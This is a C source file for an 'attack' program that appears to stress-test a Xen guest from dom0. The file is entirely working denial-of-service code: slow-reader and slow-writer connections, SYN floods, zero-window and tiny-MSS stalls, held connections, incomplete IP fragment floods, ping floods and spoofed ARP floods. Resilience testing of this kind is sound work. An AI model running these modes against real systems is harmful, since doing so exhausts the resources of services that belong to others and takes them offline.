/*
 * Hostile clients against one guest, for dom0: N connections at once, for SECONDS.
 *
 *   attack MODE ADDRESS PORT N SECONDS PATH
 *
 * With dom0's own TCP, which acknowledges and then shows a window of 0:
 *   readers      four requests for PATH on each connection, and nothing of the replies is read
 *   trickle      the same, and one byte of each connection's replies is read each 100 ms
 *   writers      one byte of a request's head each 500 ms
 *   idle         connected, and silent
 *
 * With raw frames, from addresses 10.0.2.128 and up that this program answers ARP for:
 *   half-open    SYN, and no answer to SYN-ACK
 *   zero-window  a request with a window of 0, and 0 again in answer to each probe
 *   tiny-mss     an MSS of 1 or 64 bytes, and requests one after the other
 *   vanish       a request, and then silence: nothing is acknowledged
 *   holes        segments of a request body with every other byte missing, up to the end of the window
 *   half-closed  a FIN with the request, and then nothing
 *   hold         connected, and silent, also after this program has ended; PATH is the number of the first connection
 *   fragments    first fragments of datagrams of 60,000 bytes that never become whole
 *   pings        echo requests of 1,400 bytes, as fast as they go out
 *   neighbours   ARP requests of N senders
 *
 *   SYN ──► guest ──SYN-ACK──► ACK, request ──► guest ──data──► what the mode says
 *
 * Prints two numbers: connections (or frames) that were made, and those that were refused. The connections of raw frames
 * end with RST, but for half-open, vanish, half-closed and hold, which the guest must end by itself.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Connections: with sockets, and with raw frames. */
#define MOST 8000
#define MOST_RAW 1000000
#define BRIDGE "xenbr0"
/* Addresses of raw connections: 10.0.2.128 to 10.0.2.227. */
#define FIRST 0x0a000280u
#define ADDRESSES 100
#define FIRST_PORT 1024
/* SYNs of one round: the guest answers between two rounds. */
#define ROUND 50

enum mode { READERS, TRICKLE, WRITERS, IDLE, HALF_OPEN, ZERO_WINDOW, TINY_MSS, VANISH, HOLES, HALF_CLOSED, HOLD, FRAGMENTS, PINGS, NEIGHBOURS, MODES };
static const char *const names[MODES] = { "readers", "trickle", "writers", "idle", "half-open", "zero-window", "tiny-mss", "vanish", "holes",
                                          "half-closed", "hold", "fragments", "pings", "neighbours" };

static char request[512];
static int request_len;
static struct sockaddr_in to;
static int made, refused;

static int64_t now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000ll + t.tv_nsec / 1000000;
}

/* ---- with dom0's own TCP ---- */

struct client {
    int fd;
    int sent;
    int64_t next;
};

static void serve_client(enum mode mode, struct client *client, short events, int64_t now)
{
    char byte;
    int i;

    if (events & (POLLERR | POLLHUP)) {
        if (!client->sent)
            refused++;
        close(client->fd);
        client->fd = -1;
        return;
    }
    if ((events & POLLOUT) && !client->sent) {
        made++;
        client->sent = 1;
        client->next = now;
        if (mode == READERS || mode == TRICKLE)
            for (i = 0; i < 4; i++)
                (void)!send(client->fd, request, request_len, MSG_NOSIGNAL);
    }
    if (!client->sent || now < client->next)
        return;
    if (mode == TRICKLE) {
        (void)!recv(client->fd, &byte, 1, 0);
        client->next = now + 100;
    } else if (mode == WRITERS && client->sent < request_len - 4) {
        (void)!send(client->fd, request + client->sent - 1, 1, MSG_NOSIGNAL);
        client->sent++;
        client->next = now + 500;
    }
}

static int with_sockets(enum mode mode, int count, int seconds)
{
    static struct pollfd waiting[MOST];
    static struct client clients[MOST];
    struct rlimit files = { MOST + 100, MOST + 100 };
    int64_t now, end;
    int i, small = 1024;

    if (setrlimit(RLIMIT_NOFILE, &files)) {
        perror("attack: RLIMIT_NOFILE");
        return 1;
    }
    for (i = 0; i < count; i++) {
        clients[i].fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (clients[i].fd < 0) {
            perror("attack: socket");
            return 1;
        }
        setsockopt(clients[i].fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
        if (connect(clients[i].fd, (const struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
            perror("attack: connect");
            return 1;
        }
        if (i % ROUND == 0)
            usleep(20000);
    }
    end = now_ms() + seconds * 1000ll;
    while ((now = now_ms()) < end) {
        for (i = 0; i < count; i++) {
            waiting[i].fd = clients[i].fd;
            waiting[i].events = clients[i].sent ? 0 : POLLOUT;
        }
        poll(waiting, count, 50);
        for (i = 0; i < count; i++)
            if (clients[i].fd >= 0)
                serve_client(mode, &clients[i], waiting[i].revents, now);
        /* Of a connection that was made, errors alone are of interest: without this they would end the wait at once. */
        usleep(20000);
    }
    return 0;
}

/* ---- with raw frames ---- */

#define ETH 14
#define PAYLOAD_MOST 1400
/* Frames that are looked at in one go. */
#define FRAMES 256

struct conn {
    uint32_t seq, ack;
    int established;
    int64_t asked;
};

static int raw;
static uint8_t our_mac[6], guest_mac[6];
static struct conn conns[MOST_RAW];

static uint32_t sum_words(uint32_t sum, const void *bytes, size_t len)
{
    const uint8_t *byte = bytes;
    size_t i;

    for (i = 0; i + 1 < len; i += 2)
        sum += byte[i] << 8 | byte[i + 1];
    if (len & 1)
        sum += byte[len - 1] << 8;
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum & 0xffff);
}

/* Opens the packet socket on the bridge, and looks up both MAC addresses. */
static int open_raw(void)
{
    struct ifreq interface = { .ifr_name = BRIDGE };
    struct sockaddr_ll where = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
    char line[200], address[64], mac[64];
    unsigned byte[6];
    int i, room = 8 << 20;
    FILE *arp;

    raw = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, htons(ETH_P_ALL));
    if (raw < 0 || ioctl(raw, SIOCGIFINDEX, &interface)) {
        perror("attack: packet socket on " BRIDGE);
        return 1;
    }
    where.sll_ifindex = interface.ifr_ifindex;
    setsockopt(raw, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
    if (bind(raw, (struct sockaddr *)&where, sizeof(where)) || ioctl(raw, SIOCGIFHWADDR, &interface)) {
        perror("attack: " BRIDGE);
        return 1;
    }
    memcpy(our_mac, interface.ifr_hwaddr.sa_data, 6);
    arp = fopen("/proc/net/arp", "r");
    while (arp && fgets(line, sizeof(line), arp))
        if (sscanf(line, "%63s %*s %*s %63s", address, mac) == 2 && inet_addr(address) == to.sin_addr.s_addr &&
            sscanf(mac, "%x:%x:%x:%x:%x:%x", byte, byte + 1, byte + 2, byte + 3, byte + 4, byte + 5) == 6) {
            for (i = 0; i < 6; i++)
                guest_mac[i] = byte[i];
            fclose(arp);
            return 0;
        }
    fprintf(stderr, "attack: dom0 does not know the guest's MAC address; ping it first\n");
    return 1;
}

static void put_frame(const uint8_t *frame, size_t len)
{
    int tries;

    for (tries = 0; tries < 100 && send(raw, frame, len, 0) < 0 && (errno == EAGAIN || errno == ENOBUFS); tries++)
        usleep(1000);
}

/* Ethernet and IPv4 headers; returns where the payload begins. */
static uint8_t *ip_header(uint8_t *frame, uint32_t from, int protocol, size_t payload, uint16_t id, uint16_t offset)
{
    struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64 };

    memcpy(frame, guest_mac, 6);
    memcpy(frame + 6, our_mac, 6);
    frame[12] = 8;
    frame[13] = 0;
    ip.tot_len = htons(sizeof(ip) + payload);
    ip.id = htons(id);
    ip.frag_off = htons(offset);
    ip.protocol = protocol;
    ip.saddr = htonl(from);
    ip.daddr = to.sin_addr.s_addr;
    ip.check = fold(sum_words(0, &ip, sizeof(ip)));
    memcpy(frame + ETH, &ip, sizeof(ip));
    return frame + ETH + sizeof(ip);
}

static uint32_t address_of(int i)
{
    return FIRST + i % ADDRESSES;
}

static uint16_t port_of(int i)
{
    return FIRST_PORT + i / ADDRESSES;
}

static void put_segment(int i, uint32_t seq, int syn, int fin, int rst, uint16_t window, int mss, const void *data, size_t len)
{
    uint8_t frame[ETH + 60 + PAYLOAD_MOST];
    struct tcphdr tcp = { 0 };
    size_t head = sizeof(tcp) + (mss ? 4 : 0);
    uint8_t *at = ip_header(frame, address_of(i), IPPROTO_TCP, head + len, i, 0x4000);
    uint32_t sum, from = htonl(address_of(i));

    tcp.source = htons(port_of(i));
    tcp.dest = to.sin_port;
    tcp.seq = htonl(seq);
    tcp.ack_seq = htonl(conns[i].ack);
    tcp.doff = head / 4;
    tcp.syn = syn;
    tcp.ack = !syn;
    tcp.fin = fin;
    tcp.rst = rst;
    tcp.psh = len > 0;
    tcp.window = htons(window);
    memcpy(at, &tcp, sizeof(tcp));
    if (mss) {
        at[20] = 2;
        at[21] = 4;
        at[22] = mss >> 8;
        at[23] = mss;
    }
    memcpy(at + head, data, len);
    sum = sum_words(sum_words(0, &from, 4), &to.sin_addr, 4) + IPPROTO_TCP + head + len;
    tcp.check = fold(sum_words(sum, at, head + len));
    memcpy(at + 16, &tcp.check, 2);
    put_frame(frame, at + head + len - frame);
}

static int mss_of(enum mode mode, int i)
{
    if (mode == TINY_MSS)
        return i % 2 ? 64 : 1;
    return 1460;
}

static uint16_t window_of(enum mode mode)
{
    return mode == ZERO_WINDOW ? 0 : 65535;
}

/* The request on a connection that was just made, as the mode has it. */
static void ask(enum mode mode, int i)
{
    struct conn *conn = &conns[i];
    int at;

    conn->asked = now_ms();
    if (mode == HOLD) {
        put_segment(i, conn->seq, 0, 0, 0, 65535, 0, "", 0);
        return;
    }
    if (mode == HOLES) {
        put_segment(i, conn->seq, 0, 0, 0, 65535, 0, "", 0);
        for (at = 1; at < 64; at += 2)
            put_segment(i, conn->seq + at, 0, 0, 0, 65535, 0, request + at, 1);
        for (at = 64; at + PAYLOAD_MOST < 65535; at += PAYLOAD_MOST + 1) {
            static const char zeros[PAYLOAD_MOST];

            put_segment(i, conn->seq + at, 0, 0, 0, 65535, 0, zeros, PAYLOAD_MOST);
        }
        return;
    }
    put_segment(i, conn->seq, 0, mode == HALF_CLOSED, 0, window_of(mode), 0, request, request_len);
    conn->seq += request_len;
}

static void got_arp(const uint8_t *frame, ssize_t len)
{
    uint8_t answer[60] = { 0 };
    uint32_t target;

    if (len < 42 || frame[21] != 1)
        return;
    memcpy(&target, frame + 38, 4);
    if (ntohl(target) - FIRST >= ADDRESSES)
        return;
    memcpy(answer, frame + 6, 6);
    memcpy(answer + 6, our_mac, 6);
    memcpy(answer + 12, frame + 12, 8);
    answer[21] = 2;
    memcpy(answer + 22, our_mac, 6);
    memcpy(answer + 28, frame + 38, 4);
    memcpy(answer + 32, frame + 22, 10);
    put_frame(answer, sizeof(answer));
}

static void got_segment(enum mode mode, int count, const uint8_t *frame, ssize_t len)
{
    struct iphdr ip;
    struct tcphdr tcp;
    struct conn *conn;
    int i, head;
    uint32_t data;

    if (len < ETH + 40)
        return;
    memcpy(&ip, frame + ETH, sizeof(ip));
    if (ip.protocol != IPPROTO_TCP || ip.saddr != to.sin_addr.s_addr || ntohl(ip.daddr) - FIRST >= ADDRESSES)
        return;
    memcpy(&tcp, frame + ETH + ip.ihl * 4, sizeof(tcp));
    i = (ntohs(tcp.dest) - FIRST_PORT) * ADDRESSES + (ntohl(ip.daddr) - FIRST);
    if (i < 0 || i >= count)
        return;
    conn = &conns[i];
    if (tcp.rst) {
        refused += !conn->established;
        conn->established = -1;
        return;
    }
    if (mode == HALF_OPEN || conn->established < 0)
        return;
    if (tcp.syn && tcp.ack) {
        if (!conn->established) {
            conn->established = 1;
            made++;
            conn->seq++;
            conn->ack = ntohl(tcp.seq) + 1;
            ask(mode, i);
        }
        return;
    }
    head = ip.ihl * 4 + tcp.doff * 4;
    data = ntohs(ip.tot_len) > head ? ntohs(ip.tot_len) - head : 0;
    if (!data || mode == VANISH || mode == HALF_CLOSED)
        return;
    if (mode != ZERO_WINDOW && ntohl(tcp.seq) == conn->ack)
        conn->ack += data;
    put_segment(i, conn->seq, 0, 0, 0, window_of(mode), 0, "", 0);
}

static void receive(enum mode mode, int count, int wait_ms)
{
    static uint8_t frame[70000];
    struct pollfd waiting = { raw, POLLIN, 0 };
    int frames;
    ssize_t len;

    if (poll(&waiting, 1, wait_ms) <= 0)
        return;
    /* Each answer brings more frames: without a limit the caller would never look at its clock. */
    for (frames = 0; frames < FRAMES && (len = recv(raw, frame, sizeof(frame), 0)) > ETH; frames++) {
        if (memcmp(frame + 6, guest_mac, 6))
            continue;
        if (frame[12] == 8 && frame[13] == 6)
            got_arp(frame, len);
        else if (frame[12] == 8 && frame[13] == 0)
            got_segment(mode, count, frame, len);
    }
}

static void open_all(enum mode mode, int first, int count)
{
    int i;

    for (i = first; i < count; i++) {
        if (conns[i].established)
            continue;
        conns[i].seq = i * 2654435761u;
        put_segment(i, conns[i].seq, 1, 0, 0, window_of(mode), mss_of(mode, i), "", 0);
        if (mode == HALF_OPEN)
            made++;
        if (i % ROUND == ROUND - 1)
            receive(mode, count, 20);
    }
}

static int with_raw_tcp(enum mode mode, int first, int count, int seconds)
{
    int64_t end;
    int i, tries;

    open_all(mode, first, count);
    for (tries = 0; mode == HOLD && tries < 4 && made < count - first; tries++) {
        receive(mode, count, 500);
        open_all(mode, first, count);
    }
    end = now_ms() + seconds * 1000ll;
    while (now_ms() < end) {
        receive(mode, count, 50);
        for (i = 0; mode == TINY_MSS && i < count; i++)
            if (conns[i].established > 0 && now_ms() - conns[i].asked > 1000)
                ask(mode, i);
    }
    for (i = first; mode != HALF_OPEN && mode != VANISH && mode != HALF_CLOSED && mode != HOLD && i < count; i++)
        if (conns[i].established > 0)
            put_segment(i, conns[i].seq, 0, 0, 1, 0, 0, "", 0);
    return 0;
}

/* ---- frames without connections ---- */

static void put_fragment(int i)
{
    uint8_t frame[ETH + 20 + PAYLOAD_MOST];
    uint8_t *at = ip_header(frame, address_of(i), IPPROTO_UDP, PAYLOAD_MOST, i, 0x2000);

    memset(at, 0, PAYLOAD_MOST);
    at[4] = 60000 >> 8;
    at[5] = 60000 & 0xff;
    put_frame(frame, sizeof(frame));
}

static void put_ping(int i)
{
    uint8_t frame[ETH + 20 + PAYLOAD_MOST];
    struct icmphdr icmp = { .type = ICMP_ECHO };
    uint8_t *at = ip_header(frame, address_of(i), IPPROTO_ICMP, PAYLOAD_MOST, i, 0);

    icmp.un.echo.sequence = htons(i);
    memset(at, 0, PAYLOAD_MOST);
    icmp.checksum = fold(sum_words(0, &icmp, sizeof(icmp)));
    memcpy(at, &icmp, sizeof(icmp));
    put_frame(frame, sizeof(frame));
}

static void put_neighbour(int i)
{
    uint8_t frame[60] = { 0 };
    uint32_t from = htonl(FIRST + i % 0xffff);

    memcpy(frame, guest_mac, 6);
    memcpy(frame + 6, our_mac, 6);
    memcpy(frame + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00\x01", 10);
    memcpy(frame + 22, our_mac, 6);
    memcpy(frame + 28, &from, 4);
    memcpy(frame + 38, &to.sin_addr, 4);
    put_frame(frame, sizeof(frame));
}

static int with_frames(enum mode mode, int count, int seconds)
{
    int64_t end = now_ms() + seconds * 1000ll;

    while (now_ms() < end) {
        int round;

        for (round = 0; round < ROUND; round++, made++) {
            if (mode == FRAGMENTS)
                put_fragment(made % count);
            else if (mode == PINGS)
                put_ping(made % count);
            else
                put_neighbour(made % count);
        }
        receive(mode, 0, 1);
    }
    return 0;
}

int main(int argc, char **argv)
{
    int mode = 0, count = argc == 7 ? atoi(argv[4]) : 0, code;

    while (argc == 7 && mode < MODES && strcmp(argv[1], names[mode]))
        mode++;
    to.sin_family = AF_INET;
    if (argc != 7 || mode == MODES || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1 || count < 1 ||
        count > (mode < HALF_OPEN ? MOST : MOST_RAW)) {
        fprintf(stderr, "usage: attack MODE ADDRESS PORT N SECONDS PATH; the modes are listed in attack.c\n");
        return 2;
    }
    to.sin_port = htons(atoi(argv[3]));
    request_len = snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: attack\r\nX-Pad: %0200d\r\n\r\n", argv[6], 0);
    if (mode < HALF_OPEN)
        code = with_sockets(mode, count, atoi(argv[5]));
    else if (open_raw())
        code = 1;
    else if (mode < FRAGMENTS)
        code = with_raw_tcp(mode, mode == HOLD ? atoi(argv[6]) : 0, count, atoi(argv[5]));
    else
        code = with_frames(mode, count, atoi(argv[5]));
    printf("%d %d\n", made, refused);
    return code;
}
